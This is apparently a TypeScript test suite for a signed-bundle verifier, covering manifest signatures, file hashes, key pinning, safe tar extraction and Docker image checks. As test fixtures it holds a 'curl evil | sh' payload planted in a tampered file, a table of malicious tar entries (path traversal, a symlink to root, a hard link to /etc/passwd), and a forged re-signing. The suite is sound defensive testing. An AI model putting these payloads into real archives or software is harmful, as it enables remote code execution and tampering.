import { createHash, generateKeyPairSync, sign } from 'node:crypto';
import { mkdir, readFile, readdir, rm, stat, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { gzipSync } from 'node:zlib';
import { pack, type Header } from 'tar-stream';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { exportBundle } from './archive.js';
import { manifestBytes, parseManifest } from './manifest.js';
import { checkImageTar, removeExtracted, verifyBundle, type BundleVerifyReport } from './verify.js';
import { makeBundle, makeWorkspace } from './test-fixture.js';

let ws: string;
let sandbox: string;
beforeEach(async () => {
  ws = await makeWorkspace('gh-verify-');
  sandbox = join(ws, 'sandbox');
  await mkdir(join(sandbox, 'tmp'), { recursive: true });
});
afterEach(async () => {
  await rm(ws, { recursive: true, force: true });
});

const sha256 = (b: Buffer | string) => createHash('sha256').update(b).digest('hex');
const check = (r: BundleVerifyReport, id: string) => r.checks.find((c) => c.id === id);
const failing = (r: BundleVerifyReport) => r.checks.filter((c) => !c.ok).map((c) => c.id);

/** Every path under `dir`, relative. */
async function walk(dir: string, rel = ''): Promise<string[]> {
  const out: string[] = [];
  for (const e of await readdir(join(dir, rel), { withFileTypes: true })) {
    const p = rel ? `${rel}/${e.name}` : e.name;
    out.push(p);
    if (e.isDirectory()) out.push(...(await walk(dir, p)));
  }
  return out;
}

/** A tar (gzipped unless plain) from raw entries, headers as given. */
async function tarOf(entries: { header: Partial<Header> & { name: string }; body?: Buffer | string }[], gzip = true): Promise<Buffer> {
  const p = pack();
  const chunks: Buffer[] = [];
  const done = (async () => {
    for await (const c of p as AsyncIterable<Buffer>) chunks.push(c);
  })();
  for (const e of entries) {
    await new Promise<void>((resolve, reject) => {
      if (e.body !== undefined) p.entry({ mtime: new Date(0), ...e.header }, e.body, (err) => (err ? reject(err) : resolve()));
      else p.entry({ mtime: new Date(0), ...e.header }, (err) => (err ? reject(err) : resolve())).end(null);
    });
  }
  p.finalize();
  await done;
  const tar = Buffer.concat(chunks);
  return gzip ? gzipSync(tar) : tar;
}

describe('verifyBundle on a folder', () => {
  it('passes a good bundle, and needs nothing but the bundle', async () => {
    const { bundleDir, manifest, fingerprint } = await makeBundle(ws);
    // Without the workspace's key folder: only what the bundle carries.
    await rm(join(ws, '.greenhouse'), { recursive: true });
    const r = await verifyBundle(bundleDir);
    expect(failing(r)).toEqual([]);
    expect(r.ok).toBe(true);
    expect(r.checks.map((c) => c.id)).toEqual(['manifest', 'signature', 'files', 'files.unlisted']);
    expect(r.signature).toEqual({ ok: true, fingerprint, trusted: null });
    expect(r.files).toEqual({ checked: manifest.files.length, mismatched: [], missing: [], extra: [] });
    expect(r.manifest).toEqual(manifest);
    expect(r.bundleDir).toBe(bundleDir);
    expect(r.source).toEqual({ path: bundleDir, kind: 'folder' });
    expect(r.image).toMatchObject({ present: false, ok: null });
  });

  it('finds a modified file (same size, other content)', async () => {
    const { bundleDir } = await makeBundle(ws);
    const path = join(bundleDir, 'app', 'server.py');
    const text = await readFile(path, 'utf8');
    await writeFile(path, text.replace('serving', 'SERVING'));
    const r = await verifyBundle(bundleDir);
    expect(r.ok).toBe(false);
    expect(failing(r)).toEqual(['files']);
    expect(r.files.mismatched).toEqual([
      expect.objectContaining({ path: 'app/server.py', reason: 'content differs (SHA-256)', actual: { sha256: sha256(text.replace('serving', 'SERVING')), bytes: text.length } }),
    ]);
    expect(check(r, 'files')?.message).toMatch(/1 of \d+ listed files do not match: app\/server\.py \(content differs/);
  });

  it('finds a missing file and a file of another size', async () => {
    const { bundleDir } = await makeBundle(ws);
    await rm(join(bundleDir, 'model', 'model.joblib'));
    await writeFile(join(bundleDir, 'Dockerfile'), 'FROM evil\n');
    const r = await verifyBundle(bundleDir);
    expect(r.files.missing).toEqual(['model/model.joblib']);
    expect(r.files.mismatched.map((m) => m.path)).toEqual(['Dockerfile']);
    expect(r.files.mismatched[0]?.reason).toMatch(/size is 10 bytes, the manifest says \d+/);
    expect(failing(r)).toEqual(['files']);
  });

  it('finds an extra file, even a hidden one deep down', async () => {
    const { bundleDir } = await makeBundle(ws);
    await mkdir(join(bundleDir, 'app', '.hidden'), { recursive: true });
    await writeFile(join(bundleDir, 'app', '.hidden', 'sitecustomize.py'), 'import os\n');
    const r = await verifyBundle(bundleDir);
    expect(r.files.extra).toEqual(['app/.hidden/sitecustomize.py']);
    expect(failing(r)).toEqual(['files.unlisted']);
    expect(check(r, 'files.unlisted')?.message).toContain('app/.hidden/sitecustomize.py');
  });

  it('fails the signature when the manifest was edited, even into another valid manifest', async () => {
    const { bundleDir } = await makeBundle(ws);
    const manifest = parseManifest(await readFile(join(bundleDir, 'manifest.json')));
    manifest.bundle.createdBy = 'mallory';
    await writeFile(join(bundleDir, 'manifest.json'), manifestBytes(manifest));
    const r = await verifyBundle(bundleDir);
    expect(failing(r)).toEqual(['signature']);
    expect(r.signature.ok).toBe(false);
    expect(check(r, 'signature')?.message).toMatch(/changed after signing/);
  });

  it('fails the signature (and the key file\'s hash) when the public key was swapped', async () => {
    const { bundleDir, fingerprint } = await makeBundle(ws);
    const other = generateKeyPairSync('ed25519').publicKey.export({ type: 'spki', format: 'pem' }) as string;
    await writeFile(join(bundleDir, 'signing-key.pub.pem'), other);
    const r = await verifyBundle(bundleDir);
    expect(failing(r)).toEqual(['signature', 'files']);
    expect(r.signature.fingerprint).not.toBe(fingerprint);
    expect(r.files.mismatched.map((m) => m.path)).toEqual(['signing-key.pub.pem']);
  });

  it('fails when the signature or key is missing, or the manifest is not one', async () => {
    const { bundleDir } = await makeBundle(ws);
    await rm(join(bundleDir, 'manifest.json.sig'));
    let r = await verifyBundle(bundleDir);
    expect(failing(r)).toEqual(['signature']);
    expect(check(r, 'signature')?.message).toMatch(/manifest\.json\.sig is missing/);
    await writeFile(join(bundleDir, 'manifest.json'), '{"not":"a manifest"}');
    r = await verifyBundle(bundleDir);
    expect(failing(r)).toEqual(['manifest', 'signature', 'files']);
    expect(r.manifest).toBeNull();
  });

  it('catches a bundle re-signed with another key only when the trusted key is pinned', async () => {
    const { bundleDir, fingerprint } = await makeBundle(ws);
    // Mallory edits the manifest and re-signs everything with her own key.
    const { privateKey, publicKey } = generateKeyPairSync('ed25519');
    const pem = publicKey.export({ type: 'spki', format: 'pem' }) as string;
    await writeFile(join(bundleDir, 'signing-key.pub.pem'), pem);
    const manifest = parseManifest(await readFile(join(bundleDir, 'manifest.json')));
    const keyEntry = manifest.files.find((f) => f.path === 'signing-key.pub.pem')!;
    keyEntry.sha256 = sha256(pem);
    keyEntry.bytes = Buffer.byteLength(pem);
    const bytes = manifestBytes(manifest);
    await writeFile(join(bundleDir, 'manifest.json'), bytes);
    await writeFile(join(bundleDir, 'manifest.json.sig'), sign(null, bytes, privateKey).toString('base64'));

    expect((await verifyBundle(bundleDir)).ok).toBe(true);
    const pinned = await verifyBundle(bundleDir, { trustedFingerprints: [fingerprint.toUpperCase()] });
    expect(failing(pinned)).toEqual(['signature.trusted']);
    expect(pinned.signature.trusted).toBe(false);
    expect(check(pinned, 'signature.trusted')?.message).toMatch(/re-signed/);
  });

  it('throws for a path that does not exist', async () => {
    await expect(verifyBundle(join(ws, 'nope'))).rejects.toMatchObject({ code: 'NOT_FOUND' });
  });
});

describe('verifyBundle on an archive', () => {
  it('passes a good export, extracting into a temp folder that it removes', async () => {
    const { bundleDir, fingerprint } = await makeBundle(ws);
    const { path } = await exportBundle(bundleDir, { outDir: join(ws, 'out') });
    const r = await verifyBundle(path, { tmpDir: join(sandbox, 'tmp'), trustedFingerprints: [fingerprint] });
    expect(failing(r)).toEqual([]);
    expect(r.checks.map((c) => c.id)).toEqual(['archive', 'manifest', 'signature', 'signature.trusted', 'files', 'files.unlisted']);
    expect(r.source).toEqual({ path, kind: 'archive' });
    expect(r.bundleDir).toBeNull();
    expect(await readdir(join(sandbox, 'tmp'))).toEqual([]);
  });

  it('keeps the extracted folder for a Docker rerun when asked, with the image path', async () => {
    const { bundleDir } = await makeBundle(ws);
    const { path } = await exportBundle(bundleDir, { outDir: join(ws, 'out') });
    const r = await verifyBundle(path, { tmpDir: join(sandbox, 'tmp'), keepExtracted: true });
    expect(r.ok).toBe(true);
    expect(r.bundleDir).toMatch(/churn-3$/);
    expect((await stat(join(r.bundleDir!, 'manifest.json'))).isFile()).toBe(true);
    expect(r.image).toMatchObject({ present: false, path: null });
    await removeExtracted(r);
    expect(await readdir(join(sandbox, 'tmp'))).toEqual([]);
  });

  it('finds a file changed inside the archive', async () => {
    const { bundleDir, manifest } = await makeBundle(ws);
    const entries = [
      ...manifest.files.map((f) => f.path),
      'manifest.json',
      'manifest.json.sig',
    ];
    const files = await Promise.all(entries.map(async (p) => ({ header: { name: `churn-3/${p}` }, body: await readFile(join(bundleDir, p)) })));
    const server = files.find((f) => f.header.name === 'churn-3/app/server.py')!;
    server.body = Buffer.from('import os; os.system("curl evil | sh")\n');
    const archive = join(ws, 'changed.tar.gz');
    await writeFile(archive, await tarOf(files));
    const r = await verifyBundle(archive, { tmpDir: join(sandbox, 'tmp') });
    expect(failing(r)).toEqual(['files']);
    expect(r.files.mismatched.map((m) => m.path)).toEqual(['app/server.py']);
  });

  it('accepts a plain (uncompressed) tar too', async () => {
    const { bundleDir, manifest } = await makeBundle(ws);
    const files = await Promise.all(
      [...manifest.files.map((f) => f.path), 'manifest.json', 'manifest.json.sig'].map(async (p) => ({ header: { name: `./churn-3/${p}` }, body: await readFile(join(bundleDir, p)) })),
    );
    const archive = join(ws, 'plain.tar');
    await writeFile(archive, await tarOf(files, false));
    expect(failing(await verifyBundle(archive, { tmpDir: join(sandbox, 'tmp') }))).toEqual([]);
  });

  const attacks: [string, Partial<Header> & { name: string }, RegExp][] = [
    ['a path with ..', { name: 'churn-3/../../../../../evil' }, /"churn-3\/..\/..\/..\/..\/..\/evil" \(a path that leaves the bundle folder\)/],
    ['a bare ../evil', { name: '../evil' }, /a path that leaves the bundle folder/],
    ['an absolute path', { name: `${'/'}evil-absolute` }, /an absolute path/],
    ['a symbolic link', { name: 'churn-3/link', type: 'symlink', linkname: '/' }, /a symbolic link to "\/"/],
    ['a hard link', { name: 'churn-3/hard', type: 'link', linkname: '/etc/passwd' }, /a hard link/],
    ['a device', { name: 'churn-3/dev', type: 'character-device', devmajor: 1, devminor: 3 }, /a device/],
    ['a FIFO', { name: 'churn-3/fifo', type: 'fifo' }, /a FIFO/],
    ['a backslash path', { name: 'churn-3\\..\\..\\evil' }, /backslash/],
  ];
  for (const [what, header, message] of attacks) {
    it(`refuses an archive holding ${what}, writing nothing outside its temp folder`, async () => {
      const archive = join(sandbox, 'evil.tar.gz');
      await writeFile(
        archive,
        await tarOf([
          { header: { name: 'churn-3/Dockerfile' }, body: 'FROM x\n' },
          { header, body: header.type && header.type !== 'file' ? undefined : 'pwned\n' },
          // Written through the link, were the link extracted.
          { header: { name: 'churn-3/link/evil' }, body: 'pwned\n' },
        ]),
      );
      const before = await walk(ws);
      const r = await verifyBundle(archive, { tmpDir: join(sandbox, 'tmp') });
      expect(r.ok).toBe(false);
      expect(r.checks).toEqual([{ id: 'archive', ok: false, message: expect.stringMatching(message), remedy: expect.stringMatching(/Do not use this archive/) }]);
      expect(r.checks[0]?.message).toMatch(/never has/);
      expect(r.manifest).toBeNull();
      // Nothing new anywhere in the workspace, and the temp folder is gone.
      expect(await walk(ws)).toEqual(before);
      expect(await readdir(join(sandbox, 'tmp'))).toEqual([]);
      await expect(stat('/evil-absolute')).rejects.toMatchObject({ code: 'ENOENT' });
    });
  }

  it('refuses a second entry with the same name instead of overwriting the first', async () => {
    const archive = join(sandbox, 'dup.tar.gz');
    await writeFile(archive, await tarOf([{ header: { name: 'b/x' }, body: 'one' }, { header: { name: 'b/x' }, body: 'two' }]));
    const r = await verifyBundle(archive, { tmpDir: join(sandbox, 'tmp') });
    expect(r.checks[0]?.message).toMatch(/a second entry with the same name/);
  });

  it('reports a truncated or foreign file as a damaged archive', async () => {
    const { bundleDir } = await makeBundle(ws);
    const { path } = await exportBundle(bundleDir, { outDir: join(ws, 'out') });
    const bytes = await readFile(path);
    const truncated = join(sandbox, 'truncated.tar.gz');
    await writeFile(truncated, bytes.subarray(0, Math.floor(bytes.length / 2)));
    let r = await verifyBundle(truncated, { tmpDir: join(sandbox, 'tmp') });
    expect(r.checks).toEqual([{ id: 'archive', ok: false, message: expect.stringMatching(/is not a readable bundle archive/), remedy: expect.any(String) }]);
    const foreign = join(sandbox, 'notes.txt');
    await writeFile(foreign, 'hello');
    r = await verifyBundle(foreign, { tmpDir: join(sandbox, 'tmp') });
    expect(r.checks[0]?.message).toMatch(/neither gzip-compressed nor a tar file/);
    expect(await readdir(join(sandbox, 'tmp'))).toEqual([]);
  });
});

// ---------------------------------------------------------------------------------------------
// image.tar

/** A docker save tar in the classic layout: <config>.json, <dir>/layer.tar, manifest.json; id = config digest. */
async function classicImage() {
  const layer = await tarOf([{ header: { name: 'app/model.joblib' }, body: 'weights' }], false);
  const config = Buffer.from(JSON.stringify({ architecture: 'amd64', os: 'linux', rootfs: { type: 'layers', diff_ids: [`sha256:${sha256(layer)}`] } }));
  const id = sha256(config);
  const build = (l: Buffer) =>
    tarOf(
      [
        { header: { name: `${id}.json` }, body: config },
        { header: { name: 'abc123/', type: 'directory' } },
        { header: { name: 'abc123/layer.tar' }, body: l },
        { header: { name: 'manifest.json' }, body: JSON.stringify([{ Config: `${id}.json`, RepoTags: ['greenhouse/churn:3'], Layers: ['abc123/layer.tar'] }]) },
      ],
      false,
    );
  const tampered = Buffer.from(layer);
  tampered[600] = (tampered[600]! + 1) % 256;
  return { id: `sha256:${id}`, tar: await build(layer), tampered: await build(tampered) };
}

/** A docker save tar from the containerd store: OCI blobs, gzip layer; id = index digest. */
async function ociImage() {
  const layerTar = await tarOf([{ header: { name: 'app/model.joblib' }, body: 'weights' }], false);
  const layer = gzipSync(layerTar);
  const config = Buffer.from(JSON.stringify({ rootfs: { type: 'layers', diff_ids: [`sha256:${sha256(layerTar)}`] } }));
  const manifest = Buffer.from(JSON.stringify({ schemaVersion: 2, config: { digest: `sha256:${sha256(config)}` }, layers: [{ digest: `sha256:${sha256(layer)}` }] }));
  // The attestation manifest docker does not save is referenced but absent: allowed.
  const index = Buffer.from(JSON.stringify({ schemaVersion: 2, manifests: [{ digest: `sha256:${sha256(manifest)}` }, { digest: `sha256:${sha256('attestation')}` }] }));
  const blob = (b: Buffer) => ({ header: { name: `blobs/sha256/${sha256(b)}` }, body: b });
  const build = (layerBlob: Buffer) =>
    tarOf([blob(config), blob(index), blob(layerBlob), blob(manifest), { header: { name: 'index.json' }, body: index }, { header: { name: 'oci-layout' }, body: '{"imageLayoutVersion":"1.0.0"}' }], false);
  return { id: `sha256:${sha256(index)}`, tar: await build(layer), withoutLayer: await build(Buffer.from('x')) };
}

describe('image.tar', () => {
  it('checks a classic docker save against the config digest, layer by layer', async () => {
    const img = await classicImage();
    const good = join(ws, 'good.tar');
    await writeFile(good, img.tar);
    expect(await checkImageTar(good, img.id)).toEqual({ ok: true, message: expect.stringMatching(/with all 1 layers intact/) });
    const bad = join(ws, 'bad.tar');
    await writeFile(bad, img.tampered);
    expect(await checkImageTar(bad, img.id)).toMatchObject({ ok: false, message: expect.stringMatching(/layer sha256:.* is missing or altered/) });
    expect(await checkImageTar(good, `sha256:${sha256('other')}`)).toMatchObject({ ok: false, message: expect.stringMatching(/does not hold the image the manifest records/) });
  });

  it('checks a containerd-store save from the index digest down to the gzip layers', async () => {
    const img = await ociImage();
    const good = join(ws, 'good.tar');
    await writeFile(good, img.tar);
    expect(await checkImageTar(good, img.id)).toMatchObject({ ok: true });
    const bad = join(ws, 'bad.tar');
    await writeFile(bad, img.withoutLayer);
    expect(await checkImageTar(bad, img.id)).toMatchObject({ ok: false, message: expect.stringMatching(/missing or altered/) });
  });

  it('is verified inside an exported archive against the signed image id', async () => {
    const img = await classicImage();
    const { bundleDir } = await makeBundle(ws, { input: { image: { tag: 'greenhouse/churn:3', id: img.id, base: 'python:3.11-slim' } } });
    const imageTar = { size: img.tar.length, stream: () => Readable.from([img.tar]) };
    const { path } = await exportBundle(bundleDir, { outDir: join(ws, 'out'), imageTar });
    const r = await verifyBundle(path, { tmpDir: join(sandbox, 'tmp'), keepExtracted: true });
    expect(failing(r)).toEqual([]);
    expect(r.checks.map((c) => c.id)).toContain('image');
    expect(r.image).toMatchObject({ present: true, ok: true });
    expect(await readFile(r.image.path!)).toEqual(img.tar);
    await removeExtracted(r);

    // The same archive with another image in it fails.
    const other = await ociImage();
    const swapped = await exportBundle(bundleDir, { outDir: join(ws, 'out2'), imageTar: { size: other.tar.length, stream: () => Readable.from([other.tar]) } });
    const r2 = await verifyBundle(swapped.path, { tmpDir: join(sandbox, 'tmp') });
    expect(failing(r2)).toEqual(['image']);
    expect(r2.image.ok).toBe(false);
  });

  it('fails an image.tar that no image id in the manifest vouches for', async () => {
    const img = await classicImage();
    const { bundleDir } = await makeBundle(ws, { input: { image: { tag: 'greenhouse/churn:3', id: null, base: 'python:3.11-slim' } } });
    await writeFile(join(bundleDir, 'image.tar'), img.tar);
    const r = await verifyBundle(bundleDir);
    expect(failing(r)).toEqual(['image']);
    expect(r.image.message).toMatch(/records no image id/);
    expect(r.files.extra).toEqual([]);
  });
});
